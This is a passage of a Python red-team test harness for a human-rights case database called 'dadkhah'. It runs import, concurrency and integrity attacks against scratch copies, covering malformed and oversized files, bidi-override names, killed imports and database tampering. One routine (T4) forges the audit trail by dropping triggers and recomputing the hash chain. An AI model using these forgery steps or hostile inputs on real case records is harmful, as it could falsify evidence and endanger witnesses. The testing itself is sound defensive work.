def i13(w: World) -> tuple[bool, str]:
    loc, p = _imp(w, "i13.csv", b"name,age\rAli Cr,30\rReza Cr,31\r")
    return _recs(loc) == 2, f"{_recs(loc)} rows; {out(p)[:80]}"


@attack("I14", "import", "low")
def i14(w: World) -> tuple[bool, str]:
    head = "name," + ",".join(f"c{i}" for i in range(50_000))
    row = "Ali Wide," + ",".join("x" for _ in range(50_000))
    t = time.monotonic()
    loc, p = _imp(w, "i14.csv", f"{head}\n{row}\n".encode())
    return _recs(loc) == 1, f"{_recs(loc)} row in {time.monotonic() - t:.1f} s"


@attack("I15", "import", "low")
def i15(w: World) -> tuple[bool, str]:
    loc, p = _imp(w, "i15.csv", b'name,age\nAli Ok,30\n"Unterminated,31\nReza,32\nHasan,33\n')
    return _no_tb(p), f"{_recs(loc)} imported, {_rej(loc)} rejected: {out(p)[:80]}"


@attack("I16", "import", "low")
def i16(w: World) -> tuple[bool, str]:
    loc, p = _imp(w, "i16.jsonl", b'{"name": "Ali"}\n{not json\n')
    return clean_error(p), out(p)[:120]


@attack("I17", "import", "low", "BROKE")
def i17(w: World) -> tuple[bool, str]:
    loc, p = _imp(w, "i17.jsonl", b'{"name": "Ali"}\n' + b'{"a":' * 50_000 + b"1"
                  + b"}" * 50_000 + b"\n")
    return clean_error(p) and "RecursionError" not in out(p), out(p)[:120]


@attack("I18", "import", "low")
def i18(w: World) -> tuple[bool, str]:
    loc, p = _imp(w, "i18.csv", "name,age\nمحمد كريمي,31\nعلی رضایی,30\n".encode("cp1256",
                                                                                  "replace"))
    n = q1(loc, "SELECT count(*) FROM source_records WHERE full_name = 'محمد كريمي'")
    return n == 1, f"decoded: {n}; {out(p)[:80]}"


@attack("I19", "import", "low")
def i19(w: World) -> tuple[bool, str]:
    loc, p = _imp(w, "i19.csv", "name,age\nJosé Müller,30\n".encode("latin-1"))
    n = q1(loc, "SELECT count(*) FROM source_records WHERE full_name = 'José Müller'")
    return n == 1, f"read back: {n}; {out(p)[:80]}"


@attack("I20", "import", "low")
def i20(w: World) -> tuple[bool, str]:
    from dadkhah.names.keys import name_key

    forms = ["علی کریمی", "علي كريمي", "علی\u200cکریمی", "علی\u200dکریمی", "علی\u200bکریمی",
             "\ufecb\ufee0\ufef0 \ufedb\ufeae\ufef3\ufee4\ufef0"]
    keys = {name_key(f) for f in forms}
    return len(keys) == 1, f"{len(forms)} spellings → keys {sorted(keys)}"


@attack("I21", "import", "low", "BROKE")
def i21(w: World) -> tuple[bool, str]:
    loc = w.copy("i21")
    pids = [p for (p,) in q(loc, "SELECT pr.person_id FROM person_records pr JOIN "
                                 "source_records r ON r.id = pr.record_id WHERE "
                                 "r.full_name LIKE '%Hosseini'")]
    sid = _submission(w, loc, full_name="\u202eevil\u202c Hosseini", contact="x@example.org")
    hits = []
    with w.client(loc) as c:
        for p in pids:
            for u in (f"/memorial/{p}", f"/api/public/persons/{p}"):
                if "\u202e" in c.get(u).text:
                    hits.append(u)
        login(c, "reviewer1", PASSWORD.replace("role", "reviewer"))
        if "\u202e" in c.get(f"/team/submissions/{sid}").text:
            hits.append("moderation page")
    return not hits, f"U+202E shown on: {hits or 'none'} (persons {pids})"


FAR_XLSX: list[Path] = []


def _far_xlsx(w: World) -> Path:
    import openpyxl

    if not FAR_XLSX:
        wb = openpyxl.Workbook()
        ws = wb.active
        ws.append(["name", "age"])
        ws.append(["Xlsx Person", 30])
        ws.cell(row=1048576, column=16384, value="far corner")
        f = w.root / "far.xlsx"
        wb.save(f)
        FAR_XLSX.append(f)
    return FAR_XLSX[0]


@attack("I22", "import", "medium", "BROKE")
def i22(w: World) -> tuple[bool, str]:
    f = _far_xlsx(w)
    loc = w.fresh("i22")
    t = time.monotonic()
    try:
        p = cli(loc, "import", str(f), "--source", "rob", timeout=60)
    except subprocess.TimeoutExpired:
        return False, "CLI import still running after 60 s"
    took = time.monotonic() - t
    # the web preview too (a copy of the case with users), bounded the same way
    web_loc = w.copy("i22w")
    cli(web_loc, "source", "add", "rob-up", "--title", "Uploads", "--kind", "other")
    with w.client(web_loc) as c:
        tok = login(c, "editor1", PASSWORD.replace("role", "editor"))
        t2 = time.monotonic()
        r = _upload(c, tok, "far.xlsx", f.read_bytes())
        web_took = time.monotonic() - t2
    web = f"web preview {r.status_code} in {web_took:.1f} s"
    return max(took, web_took) < 30 and _no_tb(p), \
        f"{f.stat().st_size} B xlsx: CLI {took:.1f} s, {out(p)[:80]}; {web}"


@attack("I23", "import", "low")
def i23(w: World) -> tuple[bool, str]:
    loc, p1 = _imp(w, "i23.csv", b"name,age\nAli Twice,30\n")
    _, p2 = _imp(w, "i23.csv", b"name,age\nAli Twice,30\n", loc=loc)
    _, p3 = _imp(w, "i23-renamed.csv", b"name,age\nAli Twice,30\n", loc=loc)
    return _recs(loc) == 1, f"records after 3 imports: {_recs(loc)}; {out(p3)[:80]}"


@attack("I24", "import", "low", "BROKE")
def i24(w: World) -> tuple[bool, str]:
    rows = "".join(f"Crlf Person {i},3{i % 10}\n" for i in range(50))
    loc, p1 = _imp(w, "list.csv", ("name,age\n" + rows).encode())
    _, p2 = _imp(w, "list-crlf.csv", ("name,age\n" + rows).replace("\n", "\r\n").encode(),
                 loc=loc)
    return _recs(loc) == 50, f"records after re-import of the CRLF copy: {_recs(loc)}; " \
                             f"{out(p2)[:90]}"


def _big_csv(w: World, n: int, name: str = "big.csv") -> Path:
    f = w.root / name
    if not f.exists():
        with open(f, "w", encoding="utf-8") as fh:
            fh.write("name,father name,age,death date,prison,city\n")
            for i in range(n):
                fh.write(f"Big Person {name[:3]}{i},Father {i},{20 + i % 40},1988-08-"
                         f"{1 + i % 28:02d},Evin,Tehran\n")
    return f


def _children(pid: int) -> list[int]:
    return [int(x) for x in subprocess.run(["pgrep", "-P", str(pid)], capture_output=True,
                                           text=True).stdout.split()]


def _kill_during_import(w: World, sig: int) -> tuple[Path, list[int], int, int]:
    loc = w.fresh("kill")
    f = _big_csv(w, 200_000)
    e = {**os.environ, "DADKHAH_CASE": str(loc), "DADKHAH_USER": "redteam"}
    proc = subprocess.Popen([EXE, "import", str(f), "--source", "rob"], env=e,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    kids: list[int] = []
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and proc.poll() is None:
        kids = _children(proc.pid)
        if kids:
            break
        time.sleep(0.05)
    time.sleep(1.5)
    kids = _children(proc.pid) or kids
    proc.send_signal(sig)
    proc.wait()
    time.sleep(4)
    alive = [k for k in kids if Path(f"/proc/{k}").exists()
             and "Z" not in Path(f"/proc/{k}/stat").read_text().split()[2]]
    for k in alive:  # ours: the orphan of the import this script started
        with suppress(ProcessLookupError):
            os.kill(k, signal.SIGKILL)
    return loc, alive, len(kids), proc.returncode


@attack("I25", "import", "medium")
def i25(w: World) -> tuple[bool, str]:
    loc, _, _, rc = _kill_during_import(w, signal.SIGKILL)
    n = _recs(loc)
    v = cli(loc, "audit", "verify")
    cli(loc, "import", str(_big_csv(w, 200_000)), "--source", "rob", timeout=600)
    n2 = _recs(loc)
    return (n == 0 and v.returncode == 0 and n2 == 200_000,
            f"after kill -9: {n} records, audit verify rc {v.returncode}; re-import wrote "
            f"{n2}")


@attack("I26", "import", "medium", "BROKE")
def i26(w: World) -> tuple[bool, str]:
    res = []
    for sig in (signal.SIGKILL, signal.SIGTERM):
        _, alive, kids, _ = _kill_during_import(w, sig)
        res.append(f"{signal.Signals(sig).name}: {kids} reader(s), {len(alive)} alive 4 s later")
    return all(" 0 alive" in r for r in res), "; ".join(res)


# == Concurrency ===============================================================================
@attack("K1", "concurrency", "medium")
def k1(w: World) -> tuple[bool, str]:
    loc = w.fresh("k1")
    fa, fb = _big_csv(w, 30_000, "ka.csv"), _big_csv(w, 30_000, "kb.csv")
    e = {**os.environ, "DADKHAH_CASE": str(loc), "DADKHAH_USER": "redteam"}
    ps = [subprocess.Popen([EXE, "import", str(f), "--source", "rob"], env=e,
                           stdout=subprocess.PIPE, stderr=subprocess.STDOUT) for f in (fa, fb)]
    rcs = [p.wait(timeout=600) for p in ps]
    v = cli(loc, "audit", "verify")
    return rcs == [0, 0] and _recs(loc) == 60_000 and v.returncode == 0, \
        f"rc {rcs}; {_recs(loc)} records (want 60,000); audit verify rc {v.returncode}"


@attack("K2", "concurrency", "medium", "BROKE")
def k2(w: World) -> tuple[bool, str]:
    loc = w.fresh("k2")
    e = {**os.environ, "DADKHAH_CASE": str(loc), "DADKHAH_USER": "redteam"}
    dup = 0
    for i in range(8):
        f = write_csv(w.root / f"r{i}.csv", [["name"], [f"Race Person {i}"]])
        ps = [subprocess.Popen([EXE, "import", str(f), "--source", "rob"], env=e,
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
              for _ in range(2)]
        for p in ps:
            p.wait(timeout=120)
    dup = len(q(loc, "SELECT file_sha256 FROM imports GROUP BY file_sha256 HAVING count(*) > 1"))
    return dup == 0 and _recs(loc) == 8, f"8 trials: {dup} files imported twice; " \
                                         f"{_recs(loc)} records (want 8)"


@attack("K3", "concurrency", "medium")
def k3(w: World) -> tuple[bool, str]:
    loc = w.copy("k3")
    cli(loc, "source", "add", "rob", "--title", "Rob", "--kind", "other")
    f = _big_csv(w, 100_000, "k3.csv")
    e = {**os.environ, "DADKHAH_CASE": str(loc), "DADKHAH_USER": "redteam"}
    times, post = [], None
    with w.client(loc) as c:
        tok = login(c, "admin1", PASSWORD.replace("role", "admin"))
        proc = subprocess.Popen([EXE, "import", str(f), "--source", "rob"], env=e,
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(3)
        for _ in range(10):
            t = time.perf_counter()
            c.get("/team/search?q=Ali")
            times.append(time.perf_counter() - t)
        t = time.perf_counter()
        r = c.post("/team/sources", data={"csrf_token": tok, "slug": "k3-src", "title": "K3",
                                          "kind": "other"}, follow_redirects=False)
        post = (r.status_code, time.perf_counter() - t)
        proc.wait(timeout=600)
    return max(times) < 3 and post[0] in (303, 503), \
        f"reads during import max {max(times) * 1000:.0f} ms; POST /team/sources {post[0]} " \
        f"after {post[1]:.1f} s"


_HOLDER = """
import sqlite3, sys, time
db = sqlite3.connect(sys.argv[1], isolation_level=None)
db.execute("BEGIN IMMEDIATE")
print("locked", flush=True)
time.sleep(120)
"""


@contextmanager
def write_lock_held(loc: Path) -> Iterator[None]:
    proc = subprocess.Popen([sys.executable, "-c", _HOLDER, str(loc / "case.db")],
                            stdout=subprocess.PIPE, text=True)
    try:
        assert proc.stdout is not None and proc.stdout.readline().strip() == "locked"
        yield
    finally:
        proc.kill()
        proc.wait()


@attack("K4", "concurrency", "medium", "BROKE")
def k4(w: World) -> tuple[bool, str]:
    loc = w.copy("k4")
    f = write_csv(w.root / "k4.csv", [["name"], ["Locked Person"]])
    cli(loc, "source", "add", "rob", "--title", "Rob", "--kind", "other")
    with w.client(loc, write_wait=2) as c:
        form = c.get("/team/login")
        with write_lock_held(loc):
            t = time.monotonic()
            r = c.post("/team/login", data={"username": "editor1", "password": PASSWORD.replace(
                "role", "editor"), "csrf_token": csrf_of(form.text), "next": "/team/"},
                follow_redirects=False)
            waited = time.monotonic() - t
            p = cli(loc, "import", str(f), "--source", "rob", env={"DADKHAH_WRITE_WAIT": "2"},
                    timeout=120)
    return (r.status_code == 503 and waited < 10 and clean_error(p)
            and "sqlalchemy" not in out(p).lower(),
            f"web login while locked: {r.status_code} after {waited:.1f} s; CLI import: "
            f"{out(p)[:90]}")


@attack("K5", "concurrency", "medium", "BROKE")
def k5(w: World) -> tuple[bool, str]:
    url = os.environ.get("DADKHAH_TEST_PG_URL")
    if not url:
        raise NotRun("needs PostgreSQL (DADKHAH_TEST_PG_URL); the SQLite half is I26")
    return _pg_kill(w, url)


@attack("K6", "concurrency", "medium")
def k6(w: World) -> tuple[bool, str]:
    url = os.environ.get("DADKHAH_TEST_PG_URL")
    if not url:
        raise NotRun("needs PostgreSQL (DADKHAH_TEST_PG_URL)")
    ok, ev = _pg_kill(w, url, reimport=True)
    return ok, ev


def _pg_kill(w: World, admin_url: str, reimport: bool = False) -> tuple[bool, str]:
    import uuid

    import psycopg
    from sqlalchemy.engine import make_url

    from dadkhah.store import Case

    admin = make_url(admin_url)
    name = "dadkhah_sr_" + uuid.uuid4().hex[:10]
    dsn = admin.set(drivername="postgresql").render_as_string(hide_password=False)
    with psycopg.connect(dsn, autocommit=True) as conn:
        conn.execute(f'CREATE DATABASE "{name}"')
    url = admin.set(database=name).render_as_string(hide_password=False)
    try:
        with Case.create(url, by="redteam") as case:
            case.add_source(slug="rob", title="Rob (SYNTHETIC)", kind="ngo_list", by="redteam")
        f = _big_csv(w, 200_000)
        e = {**os.environ, "DADKHAH_CASE": url, "DADKHAH_USER": "redteam"}
        proc = subprocess.Popen([EXE, "import", str(f), "--source", "rob"], env=e,
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(4)
        kids = _children(proc.pid)
        proc.kill()
        proc.wait()
        time.sleep(5)
        pg = make_url(url).set(drivername="postgresql").render_as_string(hide_password=False)
        with psycopg.connect(pg, autocommit=True) as conn:
            active = conn.execute(
                "SELECT count(*) FROM pg_stat_activity WHERE datname = %s AND pid <> "
                "pg_backend_pid() AND backend_type = 'client backend' AND (state = 'active' "
                "OR state LIKE 'idle in transaction%%')", (name,)).fetchone()[0]
        alive = [k for k in kids if Path(f"/proc/{k}").exists()]
        for k in alive:
            with suppress(ProcessLookupError):
                os.kill(k, signal.SIGKILL)
        if reimport:
            p = cli(url, "import", str(f), "--source", "rob", timeout=900)
            with Case.open(url) as case, case.read() as conn:
                n = conn.exec_driver_sql("SELECT count(*) FROM source_records").scalar()
            return p.returncode == 0 and n == 200_000, f"re-import after kill: {n} records"
        return not alive and active == 0, f"{len(alive)} orphan readers, {active} open " \
                                          "backend transactions 5 s after kill -9"
    finally:
        with psycopg.connect(dsn, autocommit=True) as conn:
            conn.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


# == Integrity =================================================================================
def _verify(loc: Path) -> tuple[bool, str]:
    from dadkhah.store import Case

    with Case.open(loc, read_only=True) as case:
        r = case.verify_audit()
    return r.ok, " ".join(r.summary().split())[:140]


def _verify_cp(loc: Path) -> tuple[bool, str]:
    from dadkhah.store import Case
    from dadkhah.store.integrity_anchor import verify_case

    with Case.open(loc, read_only=True) as case:
        r = verify_case(case)
    return r.ok, " ".join(r.summary().split())[:140]


def _detected(loc: Path, verify: Callable[[Path], tuple[bool, str]] = _verify
              ) -> tuple[bool, str]:
    ok, s = verify(loc)
    return not ok, ("detected: " if not ok else "NOT detected: ") + s


@attack("T1", "integrity", "high")
def t1(w: World) -> tuple[bool, str]:
    loc = w.copy("t")
    tamper(loc, "UPDATE source_records SET raw = '[\"Tampered\"]' WHERE id = "
                "(SELECT max(id) FROM source_records)")
    return _detected(loc)


@attack("T2", "integrity", "high", "BROKE")
def t2(w: World) -> tuple[bool, str]:
    loc = w.copy("t")
    tamper(loc, "UPDATE source_records SET full_name = 'Someone Else Entirely', father_name = "
                "'Changed' WHERE full_name LIKE 'Khosrowplanted%'")
    return _detected(loc)


@attack("T3", "integrity", "high")
def t3(w: World) -> tuple[bool, str]:
    loc = w.copy("t")
    raw = '["Tampered","x"]'
    tamper(loc, "UPDATE source_records SET raw = ?, raw_sha256 = ? WHERE id = (SELECT max(id) "
                "FROM source_records)", params=(raw, hashlib.sha256(raw.encode()).hexdigest()))
    return _detected(loc)


def _checkpoint(loc: Path) -> None:
    from dadkhah.store import Case
    from dadkhah.store.integrity_anchor import checkpoint_case

    with Case.open(loc, read_only=True) as case:
        checkpoint_case(case)


@attack("T4", "integrity", "medium", "BROKE")
def t4(w: World) -> tuple[bool, str]:
    """The forger recomputes the row hashes, the log digest and every later entry: only the
    checkpoint (kept outside the case) can tell."""
    from sqlalchemy import text

    from dadkhah.store import Case, integrity
    from dadkhah.store.audit import canonical_json, entry_hash

    loc = w.copy("t")
    _checkpoint(loc)
    with Case.open(loc, read_only=True) as case, case.read() as conn:
        spec = integrity.PROTECTED["persons"]
        pid = conn.execute(text("SELECT min(id) FROM persons")).scalar_one()
        sealed_by = conn.execute(text("SELECT max(entry_id) FROM row_hash_log WHERE tbl = "
                                      "'persons' AND k1 = :p"), {"p": pid}).scalar_one()
    tamper(loc, f"UPDATE persons SET name_latin = 'Renamed Person' WHERE id = {pid}")
    with Case.open(loc, read_only=True) as case, case.read() as conn:
        row = conn.execute(spec.table.select().where(spec.table.c.id == pid)).one()
        new_hash = integrity.row_hash(spec, row)
    tamper(loc, "UPDATE row_hash_log SET row_hash = ? WHERE tbl = 'persons' AND k1 = ? AND "
                "entry_id = ?", params=(new_hash, pid, sealed_by))
    tamper(loc, "UPDATE row_hashes SET row_hash = ? WHERE tbl = 'persons' AND k1 = ?",
           params=(new_hash, pid))
    db = sqlite3.connect(loc / "case.db")
    db.row_factory = sqlite3.Row
    saved = db.execute("SELECT name, sql FROM sqlite_master WHERE type = 'trigger'").fetchall()
    with db:
        for t in saved:
            db.execute(f"DROP TRIGGER {t['name']}")
        prev = db.execute("SELECT entry_hash FROM audit_log WHERE id = ?",
                          (sealed_by - 1,)).fetchone()[0]
        for e in db.execute("SELECT * FROM audit_log WHERE id >= ? ORDER BY id",
                            (sealed_by,)).fetchall():
            details = json.loads(e["details"])
            if "rows_sealed" in details:
                d = integrity.LogDigest()
                for r in db.execute("SELECT tbl, k1, k2, row_hash FROM row_hash_log WHERE "
                                    "entry_id = ? ORDER BY id", (e["id"],)):
                    d.add(r["tbl"], r["k1"], r["k2"], r["row_hash"])
                details["rows_sealed"]["digest"] = d.hexdigest()
            det = canonical_json(details)
            h = entry_hash(e["id"], e["at"], e["actor"], e["action"], e["target"], det, prev)
            db.execute("UPDATE audit_log SET details = ?, prev_hash = ?, entry_hash = ? "
                       "WHERE id = ?", (det, prev, h, e["id"]))
            prev = h
        for t in saved:
            db.execute(t["sql"])
    db.close()
    chain_ok, _ = _verify(loc)
    held, ev = _detected(loc, _verify_cp)
    return held, f"chain alone {'intact (forgery complete)' if chain_ok else 'broken'}; " \
                 f"with the checkpoint {ev}"


@attack("T5", "integrity", "high")
def t5(w: World) -> tuple[bool, str]:
    loc = w.copy("t")
    tamper(loc, "DELETE FROM audit_log WHERE id = 20")
    return _detected(loc)


@attack("T6", "integrity", "medium", "BROKE")
def t6(w: World) -> tuple[bool, str]:
    from dadkhah import casefile as cf
    from dadkhah.store import Case

    loc = w.copy("t")
    with Case.open(loc) as case:
        cf.reveal_testimony(case, "w-planted", key=cf.load_key(w.key_file), by="admin1",
                            role="admin")
        cf.export_evidence(case, 1, w.root / "t6-out", by="admin1", role="admin",
                           recipient="journalist X")
    _checkpoint(loc)
    n = q1(loc, "SELECT max(id) FROM audit_log")
    tamper(loc, f"DELETE FROM audit_log WHERE id > {n - 2}")
    return _detected(loc, _verify_cp)


@attack("T7", "integrity", "high")
def t7(w: World) -> tuple[bool, str]:
    loc = w.copy("t")
    tamper(loc, "UPDATE audit_log SET actor = 'someone-else' WHERE id = 10")
    return _detected(loc)


@attack("T8", "integrity", "high")
def t8(w: World) -> tuple[bool, str]:
    loc = w.copy("t")
    tamper(loc, "DELETE FROM person_records WHERE record_id = (SELECT max(id) FROM "
                "source_records)", "DELETE FROM source_records WHERE id = (SELECT max(id) FROM "
                                   "source_records)")
    return _detected(loc)


def _with_rejected(w: World) -> Path:
    from dadkhah.ingest import import_file
    from dadkhah.store import Case

    loc = w.copy("t")
    with Case.open(loc) as case:
        import_file(case, write_csv(w.root / f"rej-{loc.name}.csv", [
            ["name", "age"], ["Ali Planted", "30"], ["", "31"], ["\x00bad", "x"]]),
            source="xss-src", by="editor1")
    return loc


@attack("T9", "integrity", "medium", "BROKE")
def t9(w: World) -> tuple[bool, str]:
    loc = _with_rejected(w)
    if not _rej(loc):
        return False, "the import rejected no row: attack not reproduced"
    tamper(loc, "UPDATE rejected_rows SET raw = '[\"Tampered\",\"abc\",\"1988\"]'")
    return _detected(loc)


@attack("T10", "integrity", "medium", "BROKE")
def t10(w: World) -> tuple[bool, str]:
    loc = _with_rejected(w)
    if not _rej(loc):
        return False, "the import rejected no row: attack not reproduced"
    tamper(loc, "DELETE FROM rejected_rows")
    return _detected(loc)


def _ev_verify(loc: Path) -> tuple[bool, str]:
    p = cli(loc, "evidence", "verify")
    return p.returncode == 0, out(p)[:140]


@attack("T11", "integrity", "high")
def t11(w: World) -> tuple[bool, str]:
    loc = w.copy("t")
    sha = q1(loc, "SELECT sha256 FROM evidence ORDER BY id LIMIT 1")
    f = loc / "evidence" / "sha256" / sha[:2] / sha[2:]
    f.chmod(0o600)
    with open(f, "ab") as fh:
        fh.write(b"appended")
    return _detected(loc, _ev_verify)


@attack("T12", "integrity", "high")
def t12(w: World) -> tuple[bool, str]:
    loc = w.copy("t")
    sha = q1(loc, "SELECT sha256 FROM evidence ORDER BY id LIMIT 1")
    (loc / "evidence" / "sha256" / sha[:2] / sha[2:]).unlink()
    return _detected(loc, _ev_verify)


@attack("T13", "integrity", "high", "BROKE")
def t13(w: World) -> tuple[bool, str]:
    loc = w.copy("t")
    new = b"forged replacement document\n"
    sha = hashlib.sha256(new).hexdigest()
    d = loc / "evidence" / "sha256" / sha[:2]
    d.mkdir(parents=True, exist_ok=True)
    (d / sha[2:]).write_bytes(new)
    tamper(loc, "UPDATE evidence SET sha256 = ?, size = ? WHERE id = (SELECT min(id) FROM "
                "evidence)", params=(sha, len(new)))
    ev_ok, ev = _ev_verify(loc)
    held, s = _detected(loc)
    return held, f"evidence verify {'intact' if ev_ok else 'detected'}; audit verify {s}"


@attack("T14", "integrity", "high", "BROKE")
def t14(w: World) -> tuple[bool, str]:
    loc = w.copy("t")
    tamper(loc, "UPDATE allegations SET status = 'established_by_court', text = 'edited' "
                "WHERE id = (SELECT max(id) FROM allegations)")
    return _detected(loc)


@attack("T15", "integrity", "high", "BROKE")
def t15(w: World) -> tuple[bool, str]:
    loc = w.copy("t")
    tamper(loc, "UPDATE figures SET value_text = '50', low = 50, high = 50 WHERE id = "
                "(SELECT min(id) FROM figures)")
    return _detected(loc)


@attack("T16", "integrity", "medium", "BROKE")
def t16(w: World) -> tuple[bool, str]:
    loc = w.copy("t")
    a, b = q(loc, "SELECT id FROM source_records ORDER BY id LIMIT 2")
    tamper(loc, "INSERT INTO decisions (record_l, record_r, decision, reviewer, reason, at, "
                f"origin) VALUES ({a[0]}, {b[0]}, 'match', 'admin1', 'forged decision', "
                "'2026-01-01T00:00:00+00:00', 'review')")
    return _detected(loc)


@attack("T17", "integrity", "medium", "BROKE")
def t17(w: World) -> tuple[bool, str]:
    loc = w.copy("t")
    tamper(loc, "UPDATE persons SET name_latin = 'Renamed Person' WHERE id = (SELECT min(id) "
                "FROM persons)")
    return _detected(loc)


@attack("T18", "integrity", "medium", "BROKE")
def t18(w: World) -> tuple[bool, str]:
    loc = w.copy("t")
    tamper(loc, "UPDATE evidence SET acquired_from = 'the prosecutor himself'")
    return _detected(loc)


@attack("T19", "integrity", "medium", "BROKE")
def t19(w: World) -> tuple[bool, str]:
    loc = w.copy("t")
    tamper(loc, "INSERT INTO published_persons (person_id, published_at, published_by) VALUES "
                f"({w.planted_person}, '2026-01-01T00:00:00+00:00', 'admin1')")
    return _detected(loc)


@attack("T20", "integrity", "medium", "BROKE")
def t20(w: World) -> tuple[bool, str]:
    from dadkhah.ingest import import_file
    from dadkhah.store import Case

    loc = w.copy("t")
    with Case.open(loc) as case:
        import_file(case, write_csv(w.root / "t20.csv", [["name"], ["Last Import One"],
                                                         ["Last Import Two"]]),
                    source="xss-src", by="editor1")
    _checkpoint(loc)
    imp = q1(loc, "SELECT max(id) FROM imports")
    entry = q1(loc, f"SELECT id FROM audit_log WHERE target = 'import:{imp}'")
    drop = (f"DELETE FROM source_records WHERE import_id = {imp}",
            f"DELETE FROM rejected_rows WHERE import_id = {imp}",
            f"DELETE FROM imports WHERE id = {imp}",
            f"DELETE FROM audit_log WHERE id >= {entry}")
    naive = w.copy("t20n")
    shutil.rmtree(naive)
    shutil.copytree(loc, naive)
    tamper(naive, *drop)
    held_naive, ev_naive = _detected(naive)
    tamper(loc, *drop, f"DELETE FROM row_hash_log WHERE entry_id >= {entry}",
           f"DELETE FROM row_hashes WHERE entry_id >= {entry}")
    held, ev = _detected(loc, _verify_cp)
    return held_naive and held, f"as in the review: {ev_naive[:60]}; log cut too, with the " \
                                f"checkpoint: {ev[:70]}"


@attack("T21", "integrity", "high")
def t21(w: World) -> tuple[bool, str]:
    raw = b"".join(p.read_bytes() for p in w.base.glob("case.db*"))
    hits = [s for s in ("PLANTEDWITNESSIDENT", "PLANTEDWITNESSCONTACT", "شاهدمحرمانه",
                        "555-0199") if s.encode() in raw]
    return not hits, f"planted identity/contact bytes in case.db + WAL: {hits or 'none'}"


@attack("T22", "integrity", "high")
def t22(w: World) -> tuple[bool, str]:
    loc = w.copy("t")
    n0 = _audit_n(loc)
    other = w.root / "t22-other.key"
    cli(loc, "testimony", "keygen", str(other))
    tries = [cli(loc, "testimony", "show", "w-planted", "--reveal", "--key-file", str(other)),
             cli(loc, "testimony", "show", "w-planted", "--reveal",
                 env={"DADKHAH_KEY": base64.b64encode(os.urandom(32)).decode(),
                      "DADKHAH_KEY_FILE": ""}),
             cli(loc, "testimony", "show", "w-planted", "--reveal",
                 env={"DADKHAH_KEY": "not base64!!", "DADKHAH_KEY_FILE": ""}),
             cli(loc, "testimony", "show", "w-planted", "--reveal", "--key-file",
                 str(w.key_file), "--role", "viewer")]
    leaked = any("PLANTEDWITNESS" in out(p) for p in tries)
    return (all(clean_error(p) for p in tries) and not leaked and _audit_n(loc) == n0,
            f"4 wrong keys/roles: rc {[p.returncode for p in tries]}; identity "
            f"{'SHOWN' if leaked else 'not shown'}; audit {n0}→{_audit_n(loc)}")


@attack("T23", "integrity", "high")
def t23(w: World) -> tuple[bool, str]:
    from dadkhah import casefile as cf
    from dadkhah.store import Case

    loc = w.copy("t")
    with Case.open(loc) as case:
        cf.add_testimony(case, pseudonym="w-other", identity="Other Witness", key=cf.load_key(
            w.key_file), by="redteam", role="admin")
    rows = q(loc, "SELECT pseudonym, protected FROM testimonies WHERE pseudonym IN "
                  "('w-planted', 'w-other')")
    d = dict(rows)
    tamper(loc, "UPDATE testimonies SET protected = CASE pseudonym WHEN 'w-planted' THEN ? "
                "ELSE ? END WHERE pseudonym IN ('w-planted', 'w-other')",
           params=(d["w-other"], d["w-planted"]))
    p = cli(loc, "testimony", "show", "w-planted", "--reveal", "--key-file", str(w.key_file))
    return clean_error(p) and "Other Witness" not in out(p), out(p)[:120]


@attack("T24", "integrity", "low", "BROKE")
def t24(w: World) -> tuple[bool, str]:
    loc = w.root / "t24-case"
    old = os.umask(0o022)
    try:
        p = cli(loc, "init")
        cli(loc, "source", "add", "s", "--title", "S", "--kind", "other")
    finally:
        os.umask(old)
    modes = {p.name: oct(p.stat().st_mode & 0o777) for p in [loc, *loc.glob("case.db*"),
                                                              *loc.glob("uploads")]}
    world = [n for n, m in modes.items() if int(m, 8) & 0o077]
    return p.returncode == 0 and not world, f"modes {modes}"


# == main ======================================================================================
def run(w: World, only: set[str] | None) -> list[Result]:
    results = []
    for a in ATTACKS:
        if only and a.id not in only and a.id.rstrip("0123456789") not in only:
            continue
        t = time.monotonic()
        try:
            held, evidence = a.fn(w)
            outcome = "HELD" if held else "BROKE"
        except NotRun as exc:
            outcome, evidence = "NOT RUN", str(exc)
        except Exception as exc:  # an attack that crashes the script is not a pass
            outcome = "BROKE"
            evidence = f"script error {type(exc).__name__}: {exc}"[:200]
            if os.environ.get("SR_DEBUG"):
                traceback.print_exc()
        r = Result(a.id, a.group, a.severity, a.review, outcome, " ".join(evidence.split()))
        results.append(r)
        print(f"{r.id:4} {r.severity:6} {r.outcome:7} ({time.monotonic() - t:5.1f} s) "
              f"{r.evidence[:230]}", flush=True)
    return results


def totals(results: list[Result]) -> str:
    lines = ["", "| | tried | held | broke | high | medium | low | not run |",
             "|---|---:|---:|---:|---:|---:|---:|---:|"]
    groups = list(dict.fromkeys(r.group for r in results)) + ["total"]
    for g in groups:
        rs = [r for r in results if g in ("total", r.group)]
        broke = [r for r in rs if r.outcome == "BROKE"]
        lines.append(f"| {g} | {len(rs)} | {sum(r.outcome == 'HELD' for r in rs)} | "
                     f"{len(broke)} | {sum(r.severity == 'high' for r in broke)} | "
                     f"{sum(r.severity == 'medium' for r in broke)} | "
                     f"{sum(r.severity == 'low' for r in broke)} | "
                     f"{sum(r.outcome == 'NOT RUN' for r in rs)} |")
    was = [r for r in results if r.review == "BROKE"]
    regressions = sum(r.review == "HELD" and r.outcome == "BROKE" for r in results)
    lines.append(f"\nBroke at d4de26f among these: {len(was)}; of them still broken: "
                 f"{sum(r.outcome == 'BROKE' for r in was)}. Held at d4de26f and broken now "
                 f"(regressions): {regressions}.")
    return "\n".join(lines)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--only", help="comma-separated attack ids or groups of ids (W, X, C, I, "
                                   "K, T), e.g. W15,T")
    ap.add_argument("--persons", type=int, default=300)
    ap.add_argument("--json", help="write the results here")
    ap.add_argument("--keep", action="store_true", help="keep the scratch folder")
    args = ap.parse_args()
    only = set(args.only.split(",")) if args.only else None
    os.environ.setdefault("DADKHAH_REQUIRE_2FA", "none")  # the review's users had no 2nd factor
    root = Path(tempfile.mkdtemp(prefix="dadkhah-security-review-"))
    os.environ["DADKHAH_CONFIG_DIR"] = str(root / "config")  # checkpoint keys stay here
    t = time.monotonic()
    try:
        w = build_world(root, args.persons)
        results = run(w, only)
    finally:
        if not args.keep:
